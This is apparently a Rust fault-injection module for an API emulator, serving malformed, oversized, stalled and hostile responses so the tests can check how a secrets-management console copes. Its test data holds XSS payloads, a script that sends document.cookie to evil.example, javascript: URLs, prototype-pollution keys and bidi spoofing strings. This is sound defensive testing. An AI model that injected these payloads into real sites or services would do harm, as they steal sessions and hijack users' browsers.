//! The hostile-response corpus: what a broken proxy, a buggy gateway or an attacker in the path can
//! send. Each case is served on the endpoint where it hurts the console most, replacing the real
//! answer while `PUT /emulator/v1/faults {"hostile": NAME}` is set. Every hostile response carries
//! `X-Hostile-Case: NAME` so a test can tell it was served.

use std::convert::Infallible;
use std::sync::LazyLock;
use std::time::Duration;

use axum::body::{Body, Bytes};
use axum::extract::Request;
use axum::http::{header, HeaderValue, Method, StatusCode};
use axum::response::Response;
use futures_util::stream;
use serde::Serialize;
use serde_json::{json, Value};
use sm_contract::time::format_rfc3339;

use crate::state::{now_s, App};

const LIST: &str = "/api/v2/secrets";
const META: &str = "/api/v2/secrets/{id}/metadata";
const SECRET: &str = "/api/v2/secrets/{id}";
const VERSIONS: &str = "/api/v2/secrets/{id}/versions";
const GROUPS: &str = "/api/v2/secret_groups";
const HEALTH: &str = "/api/health/v1/region";
const EVENTS: &str = "/api/health/v1/events";

/// What a builder may know about the request it replaces.
pub struct Ctx {
    pub origin: String,
    pub path: String,
    pub region: String,
}

pub struct Case {
    pub name: &'static str,
    pub method: Method,
    pub endpoint: &'static str,
    pub description: &'static str,
    builder: fn(&Ctx) -> Response,
}

impl Case {
    pub fn applies_to(&self, method: &Method, path: &str) -> bool {
        *method == self.method && path_matches(self.endpoint, path)
    }

    pub fn respond(&self, app: &App, req: &Request) -> Response {
        let ctx = Ctx { origin: crate::api::origin_of(req.headers(), req.uri()), path: req.uri().path().to_string(), region: app.region.id.clone() };
        let mut res = (self.builder)(&ctx);
        res.headers_mut().insert("x-hostile-case", HeaderValue::from_static(self.name));
        res
    }
}

/// `{x}` in a pattern matches one non-empty path segment.
pub fn path_matches(pattern: &str, path: &str) -> bool {
    let (p, q): (Vec<&str>, Vec<&str>) = (pattern.split('/').collect(), path.split('/').collect());
    p.len() == q.len() && p.iter().zip(q.iter()).all(|(a, b)| (a.starts_with('{') && !b.is_empty()) || a == b)
}

pub fn find(name: &str) -> Option<&'static Case> {
    CASES.iter().find(|c| c.name == name)
}

#[derive(Serialize)]
pub struct Entry {
    name: &'static str,
    method: String,
    endpoint: &'static str,
    description: &'static str,
}

pub fn catalogue() -> Vec<Entry> {
    CASES.iter().map(|c| Entry { name: c.name, method: c.method.to_string(), endpoint: c.endpoint, description: c.description }).collect()
}

// ---------- response builders ----------

fn raw(status: u16, content_type: &'static str, body: impl Into<Body>) -> Response {
    let mut res = Response::new(body.into());
    *res.status_mut() = StatusCode::from_u16(status).unwrap_or(StatusCode::OK);
    res.headers_mut().insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    res
}

fn json_text(status: u16, body: impl Into<String>) -> Response {
    raw(status, "application/json", body.into())
}

fn json_value(status: u16, v: &Value) -> Response {
    json_text(status, v.to_string())
}

/// A well-formed secret, so each case differs from a valid page in exactly the way it names.
fn secret(cx: &Ctx, i: usize) -> Value {
    let id = format!("0000{i:04}-hos7-4ile-8000-00000000{i:04}");
    json!({
        "id": id, "name": format!("hostile-secret-{i}"), "secret_type": "arbitrary", "secret_group_id": "default",
        "state": 1, "state_description": "active",
        "crn": format!("crn:v1:bluemix:public:secrets-manager:{}:a/0:0:secret:{id}", cx.region),
        "labels": ["hostile"], "description": "a secret from the hostile corpus",
        "created_at": "2026-01-01T00:00:00Z", "created_by": "iam-ServiceId-hostile", "updated_at": "2026-01-02T00:00:00Z",
        "expiration_date": "2030-01-01T00:00:00Z", "downloaded": false, "locks_total": 0, "versions_total": 1
    })
}

fn page(cx: &Ctx, secrets: Vec<Value>) -> Value {
    let n = secrets.len();
    json!({
        "total_count": n, "limit": 200, "offset": 0,
        "first": {"href": format!("{}{LIST}?limit=200", cx.origin)},
        "last": {"href": format!("{}{LIST}?offset=0&limit=200", cx.origin)},
        "secrets": secrets
    })
}

fn page_of(cx: &Ctx, n: usize) -> Value {
    page(cx, (0..n).map(|i| secret(cx, i)).collect())
}

/// A valid three-secret page with one change applied.
fn list_with(cx: &Ctx, f: impl FnOnce(&mut Value)) -> Response {
    let mut p = page_of(cx, 3);
    f(&mut p);
    json_value(200, &p)
}

/// A valid page whose second secret has one change applied.
fn list_with_secret(cx: &Ctx, f: impl FnOnce(&mut Value)) -> Response {
    list_with(cx, |p| f(&mut p["secrets"][1]))
}

fn meta_with(cx: &Ctx, f: impl FnOnce(&mut Value)) -> Response {
    let mut s = secret(cx, 1);
    if let Some(id) = cx.path.split('/').nth(4) {
        s["id"] = json!(id);
    }
    f(&mut s);
    json_value(200, &s)
}

fn health(cx: &Ctx) -> Value {
    let now = format_rfc3339(now_s());
    json!({
        "schema_version": "1.0", "generated_at": now,
        "region": {"id": cx.region, "display_name": cx.region},
        "status": "operational",
        "zones": (1..=3).map(|i| json!({"id": format!("{}-{i}", cx.region), "status": "operational", "latency_ms": 30, "checked_at": now})).collect::<Vec<_>>(),
        "sla": {"target_percent": 99.99, "slo_percent": 99.999, "credit_tiers": [{"below_percent": 99.99, "credit_percent": 10}, {"below_percent": 99.9, "credit_percent": 25}]},
        "history": {"window_days": 90, "intervals": []},
        "incidents": []
    })
}

fn health_with(cx: &Ctx, f: impl FnOnce(&mut Value)) -> Response {
    let mut h = health(cx);
    f(&mut h);
    json_value(200, &h)
}

fn nested(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

fn big_string(bytes: usize) -> String {
    "A".repeat(bytes)
}

type Chunks = Vec<(u64, Bytes)>;

/// A streamed body: each chunk is sent after its delay (ms), then the stream ends or stays open.
fn stream_body(status: u16, content_type: &'static str, chunks: Chunks, hold_open: bool) -> Response {
    let s = stream::unfold((chunks.into_iter(), hold_open), |(mut it, hold)| async move {
        match it.next() {
            Some((delay, bytes)) => {
                if delay > 0 {
                    tokio::time::sleep(Duration::from_millis(delay)).await;
                }
                Some((Ok::<Bytes, Infallible>(bytes), (it, hold)))
            }
            None if hold => {
                std::future::pending::<()>().await;
                None
            }
            None => None,
        }
    });
    let mut res = raw(status, content_type, Body::from_stream(s));
    res.headers_mut().insert(header::CACHE_CONTROL, HeaderValue::from_static("no-cache"));
    res
}

fn sse(chunks: Vec<(u64, String)>, hold_open: bool) -> Response {
    stream_body(200, "text/event-stream", chunks.into_iter().map(|(d, s)| (d, Bytes::from(s))).collect(), hold_open)
}

fn region_event(cx: &Ctx) -> String {
    let mut h = health(cx);
    if let Some(o) = h.as_object_mut() {
        o.remove("history");
    }
    format!("event: region\ndata: {h}\n\n")
}

fn heartbeat() -> String {
    format!("event: heartbeat\ndata: {{\"at\":\"{}\"}}\n\n", format_rfc3339(now_s()))
}

const XSS: &str = "<img src=x onerror=alert(document.domain)>";
const SCRIPT: &str = "<script>fetch('https://evil.example/?c='+document.cookie)</script>";
const BIDI: &str = "invoice\u{202E}fdp.exe\u{202C}-\u{200B}\u{200D}\u{FEFF}key\u{2066}\u{2069}";
const PROXY_HTML: &str = "<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head><body><h1>Bad Gateway</h1><p>The proxy server received an invalid response from an upstream server.</p><hr><address>nginx</address></body></html>";

macro_rules! case {
    ($name:literal, $method:ident, $endpoint:expr, $desc:literal, $build:expr) => {
        Case { name: $name, method: Method::$method, endpoint: $endpoint, description: $desc, builder: $build }
    };
}

static CASES: LazyLock<Vec<Case>> = LazyLock::new(|| {
    vec![
        // ---- list page: the console's main view ----
        case!("list_truncated_json", GET, LIST, "list page cut off in the middle of a secret", |_| json_text(200, r#"{"total_count":3,"limit":200,"offset":0,"secrets":[{"id":"a","name":"tru"#)),
        case!("list_malformed_json", GET, LIST, "list page with a syntax error", |_| json_text(200, r#"{"total_count":1,"secrets":[{,"id":"x"]}"#)),
        case!("list_empty_body", GET, LIST, "200 with an empty body", |_| json_text(200, "")),
        case!("list_proxy_html_200", GET, LIST, "an HTML error page from a proxy, with status 200", |_| raw(200, "text/html; charset=utf-8", PROXY_HTML)),
        case!("list_html_labelled_json", GET, LIST, "an HTML page sent as application/json", |_| json_text(200, PROXY_HTML)),
        case!("list_json_as_text_plain", GET, LIST, "a valid page with content type text/plain", |cx| raw(200, "text/plain", page_of(cx, 3).to_string())),
        case!("list_json_as_octet_stream", GET, LIST, "a valid page with content type application/octet-stream", |cx| raw(200, "application/octet-stream", page_of(cx, 3).to_string())),
        case!("list_wrong_type_labels", GET, LIST, "one secret has labels as a string", |cx| list_with_secret(cx, |s| s["labels"] = json!("prod,pci"))),
        case!("list_wrong_type_id", GET, LIST, "one secret has a numeric id", |cx| list_with_secret(cx, |s| s["id"] = json!(12345))),
        case!("list_wrong_type_everywhere", GET, LIST, "one secret with every field of the wrong type", |cx| list_with_secret(cx, |s| {
            *s = json!({"id":"wrong-types","name":"wrong-types","secret_type":"arbitrary","state":"active","labels":{"a":1},"created_at":12,"versions_total":"3","locks_total":true,"downloaded":"no","description":["x"],"rotation":"yes","custom_metadata":"{}"});
        })),
        case!("list_missing_required_fields", GET, LIST, "one secret without id and name", |cx| list_with_secret(cx, |s| {
            if let Some(o) = s.as_object_mut() {
                o.remove("id");
                o.remove("name");
            }
        })),
        case!("list_all_nulls", GET, LIST, "every optional field of one secret is null", |cx| list_with_secret(cx, |s| {
            if let Some(o) = s.as_object_mut() {
                for (k, v) in o.iter_mut() {
                    if !matches!(k.as_str(), "id" | "name" | "secret_type") {
                        *v = Value::Null;
                    }
                }
            }
        })),
        case!("list_secrets_null", GET, LIST, "\"secrets\": null", |cx| list_with(cx, |p| p["secrets"] = Value::Null)),
        case!("list_secrets_object", GET, LIST, "\"secrets\" is an object, not an array", |cx| list_with(cx, |p| p["secrets"] = json!({"0": {"id": "a"}}))),
        case!("list_secrets_missing", GET, LIST, "the page has no secrets field", |cx| list_with(cx, |p| { if let Some(o) = p.as_object_mut() { o.remove("secrets"); } })),
        case!("list_top_level_array", GET, LIST, "a bare array instead of a page object", |cx| json_value(200, &json!([secret(cx, 0), secret(cx, 1)]))),
        case!("list_negative_total_count", GET, LIST, "total_count is -5", |cx| list_with(cx, |p| p["total_count"] = json!(-5))),
        case!("list_huge_total_count", GET, LIST, "total_count is 10^300", |cx| {
            let body = page_of(cx, 3).to_string().replacen("\"total_count\":3", "\"total_count\":1e300", 1);
            json_text(200, body)
        }),
        case!("list_u64_max_total_count", GET, LIST, "total_count is u64::MAX with limit 1", |cx| list_with(cx, |p| {
            p["total_count"] = json!(u64::MAX);
            p["limit"] = json!(1);
        })),
        case!("list_total_count_string", GET, LIST, "total_count is the string \"232\"", |cx| list_with(cx, |p| p["total_count"] = json!("232"))),
        case!("list_fractional_limit", GET, LIST, "limit 0.5 and offset -1", |cx| list_with(cx, |p| {
            p["limit"] = json!(0.5);
            p["offset"] = json!(-1);
        })),
        case!("list_more_than_limit", GET, LIST, "5,000 secrets on a page that asked for 200", |cx| json_value(200, &page_of(cx, 5000))),
        case!("list_next_loops", GET, LIST, "next points back at the same page forever", |cx| list_with(cx, |p| {
            p["total_count"] = json!(1_000_000);
            p["next"] = json!({"href": format!("{}{LIST}?limit=200", cx.origin)});
        })),
        case!("list_next_other_origin", GET, LIST, "next points to another origin", |cx| list_with(cx, |p| {
            p["total_count"] = json!(400);
            p["next"] = json!({"href": "https://evil.example/api/v2/secrets?offset=200&limit=200"});
        })),
        case!("list_next_javascript_url", GET, LIST, "next is a javascript: URL", |cx| list_with(cx, |p| {
            p["total_count"] = json!(400);
            p["next"] = json!({"href": "javascript:alert(document.cookie)"});
        })),
        case!("list_next_garbage", GET, LIST, "next href is not a URL at all", |cx| list_with(cx, |p| {
            p["total_count"] = json!(400);
            p["next"] = json!({"href": "::::%%%%\u{0000}"});
        })),
        case!("list_next_wrong_type", GET, LIST, "next is a string, previous is a number", |cx| list_with(cx, |p| {
            p["next"] = json!("?offset=200");
            p["previous"] = json!(7);
        })),
        case!("list_ten_megabytes", GET, LIST, "a 10 MB page (one enormous description)", |cx| list_with_secret(cx, |s| s["description"] = json!(big_string(10 * 1024 * 1024)))),
        case!("list_deeply_nested", GET, LIST, "custom_metadata nested 100,000 levels deep", |cx| {
            let body = page_of(cx, 3).to_string().replacen("\"labels\":[\"hostile\"]", &format!("\"labels\":[\"hostile\"],\"custom_metadata\":{{\"x\":{}}}", nested(100_000)), 1);
            json_text(200, body)
        }),
        case!("list_html_injection", GET, LIST, "names and descriptions with HTML/JS injection", |cx| list_with(cx, |p| {
            p["secrets"][0]["name"] = json!(XSS);
            p["secrets"][1]["description"] = json!(SCRIPT);
            p["secrets"][2]["labels"] = json!(["\"><svg onload=alert(1)>", "javascript:alert(1)"]);
        })),
        case!("list_bidi_zero_width", GET, LIST, "names with bidi overrides and zero-width characters", |cx| list_with(cx, |p| {
            p["secrets"][0]["name"] = json!(BIDI);
            p["secrets"][1]["name"] = json!("\u{200B}\u{200B}\u{200B}");
        })),
        case!("list_control_characters", GET, LIST, "NUL, escape sequences and newlines in names", |cx| list_with_secret(cx, |s| s["name"] = json!("a\u{0000}b\u{001b}[31mred\r\nSet-Cookie: x=y"))),
        case!("list_zalgo_and_emoji", GET, LIST, "combining-character towers and emoji", |cx| list_with_secret(cx, |s| s["name"] = json!(format!("z{}🔥👩‍👩‍👧‍👦", "\u{0336}\u{0337}\u{0338}".repeat(300))))),
        case!("list_enormous_name", GET, LIST, "a 1 MB name without spaces", |cx| list_with_secret(cx, |s| s["name"] = json!(big_string(1024 * 1024)))),
        case!("list_enormous_labels", GET, LIST, "10,000 labels of 1 KB each", |cx| list_with_secret(cx, |s| s["labels"] = json!(vec![big_string(1024); 10_000]))),
        case!("list_invalid_dates", GET, LIST, "dates that are not dates", |cx| list_with(cx, |p| {
            p["secrets"][0]["expiration_date"] = json!("2026-13-45T99:99:99Z");
            p["secrets"][1]["created_at"] = json!("yesterday");
            p["secrets"][2]["updated_at"] = json!("-000001-01-01T00:00:00Z");
        })),
        case!("list_epoch_and_far_future", GET, LIST, "expiration at the epoch and in year 9999", |cx| list_with(cx, |p| {
            p["secrets"][0]["expiration_date"] = json!("1970-01-01T00:00:00Z");
            p["secrets"][1]["expiration_date"] = json!("9999-12-31T23:59:59Z");
        })),
        case!("list_duplicate_ids", GET, LIST, "the same id twice on one page", |cx| list_with(cx, |p| p["secrets"][2]["id"] = p["secrets"][0]["id"].clone())),
        case!("list_unknown_secret_type", GET, LIST, "a secret type the console does not know", |cx| list_with_secret(cx, |s| s["secret_type"] = json!("quantum_entangled_key"))),
        case!("list_odd_states", GET, LIST, "state -1, 4 and 99 with mismatched descriptions", |cx| list_with(cx, |p| {
            p["secrets"][0]["state"] = json!(-1);
            p["secrets"][1]["state"] = json!(4);
            p["secrets"][1]["state_description"] = json!("ACTIVE");
            p["secrets"][2]["state"] = json!(99);
        })),
        case!("list_huge_numbers", GET, LIST, "versions_total 1e308 and locks_total -3", |cx| {
            let body = page_of(cx, 3).to_string().replacen("\"versions_total\":1", "\"versions_total\":1e308", 1).replacen("\"locks_total\":0", "\"locks_total\":-3", 1);
            json_text(200, body)
        }),
        case!("list_prototype_keys", GET, LIST, "__proto__ and constructor keys", |cx| {
            let body = page_of(cx, 3).to_string().replacen("{\"created_at\"", "{\"__proto__\":{\"admin\":true},\"constructor\":{\"prototype\":{}},\"created_at\"", 1);
            json_text(200, body)
        }),
        case!("list_duplicate_keys", GET, LIST, "the same key twice in one object", |cx| {
            let body = page_of(cx, 3).to_string().replacen("\"total_count\":3", "\"total_count\":3,\"total_count\":\"three\"", 1);
            json_text(200, body)
        }),
        case!("list_utf8_bom", GET, LIST, "a UTF-8 byte order mark before the JSON", |cx| json_text(200, format!("\u{FEFF}{}", page_of(cx, 3)))),
        case!("list_invalid_utf8", GET, LIST, "bytes that are not UTF-8 inside a string", |_| {
            let mut b = br#"{"total_count":1,"limit":200,"offset":0,"secrets":[{"id":"x","name":""#.to_vec();
            b.extend_from_slice(&[0xff, 0xfe, 0xc3, 0x28]);
            b.extend_from_slice(br#"","secret_type":"arbitrary"}]}"#);
            raw(200, "application/json", b)
        }),
        case!("list_trailing_garbage", GET, LIST, "a valid page followed by garbage", |cx| json_text(200, format!("{}<!-- injected -->", page_of(cx, 3)))),
        case!("list_jsonp_wrapper", GET, LIST, "the page wrapped as JSONP", |cx| raw(200, "application/javascript", format!("callback({});", page_of(cx, 3)))),
        case!("list_offset_mismatch", GET, LIST, "offset in the body differs from the request", |cx| list_with(cx, |p| p["offset"] = json!(9000))),
        case!("list_error_body_with_200", GET, LIST, "an IBM error body with status 200", |_| json_value(200, &json!({"errors":[{"code":"internal_error","message":"upstream failed"}],"trace":"t","status_code":500}))),
        case!("list_slow_drip", GET, LIST, "a valid page sent one small chunk every 200 ms", |cx| {
            let text = page_of(cx, 3).to_string();
            let chunks = text.as_bytes().chunks(64).map(|c| (200, Bytes::copy_from_slice(c))).collect();
            stream_body(200, "application/json", chunks, false)
        }),
        case!("list_headers_then_stall", GET, LIST, "headers and half a page, then nothing, forever", |_| {
            stream_body(200, "application/json", vec![(0, Bytes::from_static(br#"{"total_count":3,"secrets":["#))], true)
        }),
        case!("list_gzip_lie", GET, LIST, "Content-Encoding: gzip on a plain body", |cx| {
            let mut r = json_value(200, &page_of(cx, 3));
            r.headers_mut().insert(header::CONTENT_ENCODING, HeaderValue::from_static("gzip"));
            r
        }),
        case!("list_redirect_loop", GET, LIST, "a redirect to itself", |cx| {
            let mut r = raw(302, "text/plain", "");
            if let Ok(v) = HeaderValue::from_str(&format!("{}{LIST}", cx.origin)) {
                r.headers_mut().insert(header::LOCATION, v);
            }
            r
        }),
        case!("list_redirect_other_origin", GET, LIST, "a redirect to another origin", |_| {
            let mut r = raw(307, "text/plain", "");
            r.headers_mut().insert(header::LOCATION, HeaderValue::from_static("https://evil.example/api/v2/secrets"));
            r
        }),
        // ---- errors ----
        case!("error_500_html", GET, LIST, "a 500 with an HTML body", |_| raw(500, "text/html", PROXY_HTML)),
        case!("error_429_bad_retry_after", GET, LIST, "429 with Retry-After: soon", |_| {
            let mut r = json_value(429, &json!({"errors":[{"code":"too_many_requests","message":"slow down"}],"trace":"t","status_code":429}));
            r.headers_mut().insert(header::RETRY_AFTER, HeaderValue::from_static("soon"));
            r
        }),
        case!("error_429_huge_retry_after", GET, LIST, "429 with Retry-After of 31 years", |_| {
            let mut r = json_value(429, &json!({"errors":[{"code":"too_many_requests","message":"slow down"}],"trace":"t","status_code":429}));
            r.headers_mut().insert(header::RETRY_AFTER, HeaderValue::from_static("999999999"));
            r
        }),
        case!("error_429_http_date", GET, LIST, "429 with Retry-After as an HTTP date in the past", |_| {
            let mut r = json_value(429, &json!({"errors":[{"code":"too_many_requests","message":"slow down"}],"trace":"t","status_code":429}));
            r.headers_mut().insert(header::RETRY_AFTER, HeaderValue::from_static("Wed, 21 Oct 2015 07:28:00 GMT"));
            r
        }),
        case!("error_401_plain_text", GET, LIST, "401 with a plain-text body", |_| raw(401, "text/plain", "Unauthorized")),
        case!("error_huge_message", GET, LIST, "400 whose message is 1 MB", |_| json_value(400, &json!({"errors":[{"code":"bad","message":big_string(1024 * 1024)}],"trace":"t","status_code":400}))),
        case!("error_message_html", GET, LIST, "an error message with HTML/JS injection", |_| json_value(400, &json!({"errors":[{"code":"bad","message":XSS,"target":{"type":"field","name":SCRIPT}}],"trace":SCRIPT,"status_code":400}))),
        case!("error_empty_errors", GET, LIST, "an error body with an empty errors list and no trace", |_| json_value(503, &json!({"errors":[]}))),
        case!("error_nonstandard_shape", GET, LIST, "an error in another API's shape", |_| json_value(502, &json!({"error":{"code":502,"message":"Bad gateway"},"errorMessage":7}))),
        case!("error_status_mismatch", GET, LIST, "body says 404, status says 418", |_| json_value(418, &json!({"errors":[{"code":"not_found","message":"not found"}],"trace":"t","status_code":404}))),
        // ---- metadata and secret data ----
        case!("metadata_other_secret", GET, META, "metadata of a different secret than asked for", |cx| json_value(200, &secret(cx, 7))),
        case!("metadata_html_injection", GET, META, "metadata with HTML/JS in every string", |cx| meta_with(cx, |s| {
            s["name"] = json!(XSS);
            s["description"] = json!(SCRIPT);
            s["crn"] = json!("javascript:alert(1)");
            s["created_by"] = json!("<iframe src=https://evil.example>");
        })),
        case!("metadata_array", GET, META, "an array instead of an object", |_| json_text(200, "[]")),
        case!("metadata_null", GET, META, "the JSON literal null", |_| json_text(200, "null")),
        case!("metadata_deep_custom", GET, META, "custom_metadata nested 50,000 levels deep", |cx| {
            let s = secret(cx, 1).to_string().replacen("{\"created_at\"", &format!("{{\"custom_metadata\":{{\"a\":{}}},\"created_at\"", nested(50_000)), 1);
            json_text(200, s)
        }),
        case!("metadata_wrong_types", GET, META, "rotation, labels and dates of the wrong types", |cx| meta_with(cx, |s| {
            s["rotation"] = json!("monthly");
            s["labels"] = json!(42);
            s["expiration_date"] = json!(1_790_000_000);
            s["versions_total"] = json!(-1);
        })),
        case!("secret_payload_control_bytes", GET, SECRET, "a payload full of control characters and a bidi override", |cx| meta_with(cx, |s| s["payload"] = json!(format!("\u{0000}\u{0007}\u{001b}]0;owned\u{0007}{BIDI}")))),
        case!("secret_payload_ten_megabytes", GET, SECRET, "a 10 MB payload", |cx| meta_with(cx, |s| s["payload"] = json!(big_string(10 * 1024 * 1024)))),
        case!("secret_payload_wrong_type", GET, SECRET, "payload is an object, password a number", |cx| meta_with(cx, |s| {
            s["payload"] = json!({"nested": [1, 2, 3]});
            s["password"] = json!(12345);
        })),
        case!("secret_html_payload", GET, SECRET, "a payload that is an HTML document with script", |cx| meta_with(cx, |s| s["payload"] = json!(format!("<html><body>{SCRIPT}{XSS}</body></html>")))),
        case!("versions_not_array", GET, VERSIONS, "versions is a string", |_| json_value(200, &json!({"versions":"v1,v2","total_count":2}))),
        case!("versions_negative_total", GET, VERSIONS, "total_count -1 and versions without ids", |_| json_value(200, &json!({"versions":[{"alias":"current"},{"id":null}],"total_count":-1}))),
        // ---- groups ----
        case!("groups_html_names", GET, GROUPS, "group names with HTML/JS injection", |_| json_value(200, &json!({"secret_groups":[{"id":"default","name":XSS},{"id":"g2","name":SCRIPT,"description":BIDI}],"total_count":2}))),
        case!("groups_wrong_types", GET, GROUPS, "groups with numeric ids and a string total", |_| json_value(200, &json!({"secret_groups":[{"id":1,"name":2},{"id":"ok","name":"ok"}],"total_count":"2"}))),
        case!("groups_duplicate_ids", GET, GROUPS, "two groups with the same id", |_| json_value(200, &json!({"secret_groups":[{"id":"dup","name":"one"},{"id":"dup","name":"two"}],"total_count":2}))),
        // ---- health document ----
        case!("health_unknown_status", GET, HEALTH, "status values the console does not know", |cx| health_with(cx, |h| {
            h["status"] = json!("on_fire");
            h["zones"][0]["status"] = json!("sort_of_ok");
        })),
        case!("health_zones_not_array", GET, HEALTH, "zones is an object", |cx| health_with(cx, |h| h["zones"] = json!({"a": 1}))),
        case!("health_bad_latency", GET, HEALTH, "latency -5, 1e300 and \"fast\"", |cx| {
            let body = health(cx).to_string().replacen("\"latency_ms\":30", "\"latency_ms\":-5", 1).replacen("\"latency_ms\":30", "\"latency_ms\":1e300", 1).replacen("\"latency_ms\":30", "\"latency_ms\":\"fast\"", 1);
            json_text(200, body)
        }),
        case!("health_invalid_history_dates", GET, HEALTH, "intervals with invalid dates and end before start", |cx| health_with(cx, |h| {
            h["history"]["intervals"] = json!([
                {"status":"major_outage","zones":[],"start":"not a date","end":"2026-01-01T00:00:00Z"},
                {"status":"partial_outage","zones":["x"],"start":"2026-02-01T00:00:00Z","end":"2026-01-01T00:00:00Z"},
                {"status":"major_outage","zones":null,"start":"2026-02-30T00:00:00Z","end":null}
            ]);
        })),
        case!("health_overlapping_open_intervals", GET, HEALTH, "hundreds of overlapping open intervals", |cx| health_with(cx, |h| {
            h["history"]["intervals"] = json!((0..500).map(|i| json!({"status":"major_outage","zones":[format!("{}-1", cx.region)],"start":format_rfc3339(now_s() - 86_400 * (i % 90)),"end":null})).collect::<Vec<_>>());
        })),
        case!("health_huge_history", GET, HEALTH, "200,000 history intervals (about 20 MB)", |cx| health_with(cx, |h| {
            let t = now_s();
            h["history"]["intervals"] = json!((0..200_000).map(|i| json!({"status":"degraded_performance","zones":[format!("{}-2", cx.region)],"start":format_rfc3339(t - i * 30),"end":format_rfc3339(t - i * 30 + 10)})).collect::<Vec<_>>());
        })),
        case!("health_future_history", GET, HEALTH, "intervals in 2099 and before 1970", |cx| health_with(cx, |h| {
            h["history"]["intervals"] = json!([
                {"status":"major_outage","zones":[],"start":"2099-01-01T00:00:00Z","end":"2099-01-02T00:00:00Z"},
                {"status":"major_outage","zones":[],"start":"1900-01-01T00:00:00Z","end":"1900-01-02T00:00:00Z"}
            ]);
            h["history"]["window_days"] = json!(-90);
        })),
        case!("health_html_incidents", GET, HEALTH, "incident titles and updates with HTML/JS", |cx| health_with(cx, |h| {
            h["incidents"] = json!([{"id":XSS,"title":SCRIPT,"impact":"<b>major</b>","status":"investigating","started_at":"2026-01-01T00:00:00Z","updates":[{"at":"soon","status":XSS,"body":format!("{SCRIPT}{BIDI}")}]}]);
        })),
        case!("health_missing_region", GET, HEALTH, "no region, no zones, no status", |_| json_value(200, &json!({"schema_version":"1.0"}))),
        case!("health_sla_garbage", GET, HEALTH, "an SLA with strings and negative tiers", |cx| health_with(cx, |h| {
            h["sla"] = json!({"target_percent":"high","credit_tiers":[{"below_percent":-1,"credit_percent":1e9},"tier"]});
        })),
        case!("health_schema_v99", GET, HEALTH, "an unknown schema version with renamed fields", |cx| health_with(cx, |h| {
            h["schema_version"] = json!("99.0");
            if let Some(o) = h.as_object_mut() {
                if let Some(z) = o.remove("zones") {
                    o.insert("availability_zones".into(), z);
                }
            }
        })),
        case!("health_truncated", GET, HEALTH, "the health document cut off", |cx| {
            let s = health(cx).to_string();
            let cut = s.len() / 2;
            json_text(200, s.get(..cut).unwrap_or("{").to_string())
        }),
        case!("health_proxy_html_200", GET, HEALTH, "an HTML proxy page with status 200", |_| raw(200, "text/html", PROXY_HTML)),
        // ---- event stream ----
        case!("sse_garbage_events", GET, EVENTS, "lines that are not SSE, and data that is not JSON", |cx| sse(vec![
            (0, region_event(cx)),
            (100, "this is not sse\n\n:comment only\n\nevent:\n\ndata: {not json\n\nevent: heartbeat\ndata: [1,2,3]\n\nid: \u{0000}\n\n".into()),
            (500, heartbeat()),
        ], true)),
        case!("sse_wrong_content_type", GET, EVENTS, "an event stream labelled text/html", |cx| stream_body(200, "text/html", vec![(0, Bytes::from(region_event(cx))), (1000, Bytes::from(heartbeat()))], true)),
        case!("sse_huge_event", GET, EVENTS, "a single 5 MB region event", |cx| {
            let mut h = health(cx);
            h["region"]["display_name"] = json!(big_string(5 * 1024 * 1024));
            sse(vec![(0, format!("event: region\ndata: {h}\n\n"))], true)
        }),
        case!("sse_no_heartbeats", GET, EVENTS, "the first region event, then silence with the stream open", |cx| sse(vec![(0, region_event(cx))], true)),
        case!("sse_heartbeat_flood", GET, EVENTS, "20,000 heartbeats at once", |cx| {
            let mut s = region_event(cx);
            for _ in 0..20_000 {
                s.push_str(&heartbeat());
            }
            sse(vec![(0, s)], true)
        }),
        case!("sse_bad_region_json", GET, EVENTS, "a region event whose data is malformed JSON", |_| sse(vec![(0, "event: region\ndata: {\"status\":\"operational\",\"zones\":[\n\n".into()), (1000, heartbeat())], true)),
        case!("sse_unknown_events", GET, EVENTS, "event names the console does not handle", |cx| sse(vec![
            (0, region_event(cx)),
            (100, format!("event: eval\ndata: alert(1)\n\nevent: __proto__\ndata: {{}}\n\nevent: {XSS}\ndata: x\n\n")),
            (500, heartbeat()),
        ], true)),
        case!("sse_closes_immediately", GET, EVENTS, "200 then end of stream", |_| sse(vec![], false)),
        case!("sse_retry_zero", GET, EVENTS, "retry: 0 asking for instant reconnects, then close", |cx| sse(vec![(0, format!("retry: 0\n\n{}", region_event(cx)))], false)),
        case!("sse_zone_unknown", GET, EVENTS, "zone events for zones that do not exist, with HTML", |cx| sse(vec![
            (0, region_event(cx)),
            (100, format!("event: zone\ndata: {}\n\n", json!({"zone": XSS, "status":"major_outage","at":"never","reason":SCRIPT}))),
            (500, heartbeat()),
        ], true)),
        case!("sse_mixed_line_endings", GET, EVENTS, "CR, LF and CRLF line endings mixed", |cx| sse(vec![(0, region_event(cx).replace('\n', "\r")), (300, heartbeat().replace('\n', "\r\n")), (600, heartbeat())], true)),
        case!("sse_future_heartbeats", GET, EVENTS, "heartbeats dated far in the past and the future", |cx| sse(vec![
            (0, region_event(cx)),
            (200, "event: heartbeat\ndata: {\"at\":\"1970-01-01T00:00:00Z\"}\n\n".into()),
            (400, "event: heartbeat\ndata: {\"at\":\"2999-01-01T00:00:00Z\"}\n\n".into()),
            (600, "event: heartbeat\ndata: {\"at\":12}\n\n".into()),
        ], true)),
    ]
});

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_is_large_named_uniquely_and_targets_real_routes() {
        assert!(CASES.len() >= 60, "{} cases", CASES.len());
        let mut names = std::collections::HashSet::new();
        for c in CASES.iter() {
            assert!(names.insert(c.name), "duplicate {}", c.name);
            assert!(c.name.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_'));
            assert!([LIST, META, SECRET, VERSIONS, GROUPS, HEALTH, EVENTS].contains(&c.endpoint));
        }
        assert!(path_matches(META, "/api/v2/secrets/abc/metadata"));
        assert!(!path_matches(META, "/api/v2/secrets//metadata"));
        assert!(!path_matches(SECRET, "/api/v2/secrets/abc/metadata"));
    }
}
